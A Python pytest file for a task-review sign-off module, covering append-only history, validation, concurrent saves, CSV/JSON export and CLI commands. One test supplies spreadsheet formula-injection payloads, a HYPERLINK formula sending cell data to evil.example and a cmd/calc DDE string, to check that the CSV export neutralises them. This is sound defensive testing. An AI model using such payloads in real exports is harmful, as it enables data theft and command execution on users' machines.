"""Sign-off: validation, append-only history, latest status, concurrent saves, export, CLI."""

from __future__ import annotations

import csv
import io
import json
import threading

import pytest
from sqlmodel import Session, SQLModel, select

from clawviz.cli.tasks import main as cli_main
from clawviz.review.signoff import (
    ReviewError,
    add_review,
    export_reviews,
    latest_reviews,
    review_history,
)
from clawviz.store import models
from clawviz.store.db import get_engine
from tests.dburl import fresh_url, memory_engine


@pytest.fixture
def session():
    engine = memory_engine()
    SQLModel.metadata.create_all(engine)
    with Session(engine) as s:
        yield s


def test_history_is_append_only_and_latest_wins(session):
    assert "t1" not in latest_reviews(session)
    add_review(session, "t1", "reject", "ann", "no checker")
    add_review(session, "t1", "Revise ", "bob", "")
    add_review(session, "t1", "accept", "ann", "fixed")
    add_review(session, "t2", "reject", "cy")
    history = review_history(session, "t1")
    assert [(r.decision, r.reviewer) for r in history] == [
        ("reject", "ann"),
        ("revise", "bob"),
        ("accept", "ann"),
    ]
    assert all(r.created_at is not None for r in history)
    assert {k: v.decision for k, v in latest_reviews(session).items()} == {
        "t1": "accept",
        "t2": "reject",
    }


@pytest.mark.parametrize(
    "decision, reviewer, match",
    [("approve", "ann", "accept, revise, reject"), ("accept", "  ", "reviewer")],
)
def test_validation(session, decision, reviewer, match):
    with pytest.raises(ReviewError, match=match):
        add_review(session, "t1", decision, reviewer)
    assert review_history(session, "t1") == []


def test_concurrent_saves_both_recorded(tmp_path):
    url = fresh_url(tmp_path, "reviews")
    engine = get_engine(url)
    barrier = threading.Barrier(2)
    errors: list[BaseException] = []

    def save(name: str) -> None:
        try:
            with Session(engine) as s:
                barrier.wait(timeout=10)
                add_review(s, "task_0001", "accept", name, f"by {name}")
        except BaseException as exc:  # noqa: BLE001 - reported by the assertion below
            errors.append(exc)

    threads = [threading.Thread(target=save, args=(n,)) for n in ("ann", "bob")]
    for t in threads:
        t.start()
    for t in threads:
        t.join(timeout=30)
    assert errors == []
    with Session(engine) as s:
        rows = s.exec(select(models.Review)).all()
    assert sorted(r.reviewer for r in rows) == ["ann", "bob"]


def test_export_csv_and_json(session):
    add_review(session, "t1", "accept", "ann", 'note with "quotes", commas\nand a newline')
    add_review(session, "t2", "reject", "bob", "")
    rows = list(csv.DictReader(io.StringIO(export_reviews(session, "csv"))))
    assert [r["task_id"] for r in rows] == ["t1", "t2"]
    assert rows[0]["note"] == 'note with "quotes", commas\nand a newline'
    data = json.loads(export_reviews(session, "json"))
    assert data[1] == {
        "id": data[1]["id"],
        "task_id": "t2",
        "decision": "reject",
        "reviewer": "bob",
        "note": "",
        "created_at": data[1]["created_at"],
        "valid_findings_json": "[]",
    }
    assert data[0]["created_at"].endswith("+00:00")
    assert len(json.loads(export_reviews(session, "json", task_id="t2"))) == 1
    with pytest.raises(ValueError):
        export_reviews(session, "xml")


@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r"])
def test_export_csv_neutralises_formula_cells(session, lead):
    formula = lead + 'HYPERLINK("http://evil.example/?"&A1,"x")'
    add_review(session, "t1", "accept", lead + "cmd|' /C calc'!A0", formula)
    rows = list(csv.DictReader(io.StringIO(export_reviews(session, "csv"))))
    # The reviewer name is stripped when saved, so a leading tab or CR never reaches it.
    for field in ("note", "reviewer") if lead.strip() else ("note",):
        cell = rows[0][field]
        assert cell.startswith("'"), (field, cell)
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert rows[0]["note"] == "'" + json.loads(export_reviews(session, "json"))[0]["note"]


def test_cli_review_and_tasks_json(tmp_path, capsys):
    url = fresh_url(tmp_path, "cli")
    with Session(get_engine(url)) as s:
        s.add(models.Task(task_id="task_0001", name="one", category="ops"))
        for i, (role, r) in enumerate([("strong", 0.2), ("small", 0.1)]):
            s.add(models.Result(episode_id=f"e{i}", task_id="task_0001", model_role=role, reward=r))
        s.commit()
    code = cli_main(
        ["--db", url, "review", "task_0001", "--decision", "accept", "--reviewer", "ann",
         "--note", "ok"]
    )  # fmt: skip
    assert code == 0 and "recorded accept for task_0001 by ann" in capsys.readouterr().out
    assert cli_main(["--db", url, "--json", "tasks"]) == 0
    [row] = json.loads(capsys.readouterr().out)
    assert row["task_id"] == "task_0001" and row["category"] == "ops"
    assert row["status"] == "accept"
    assert [t["passed"] for t in row["filter_terms"]] == [True, True, True]
    assert row["filter_terms"][0]["term"] == "s_strong >= 0.2"
    assert cli_main(["tasks", "--db", url]) == 0
    assert "task_0001" in capsys.readouterr().out
    with pytest.raises(SystemExit):
        cli_main(["--db", url, "review", "task_0001", "--decision", "maybe", "--reviewer", "x"])
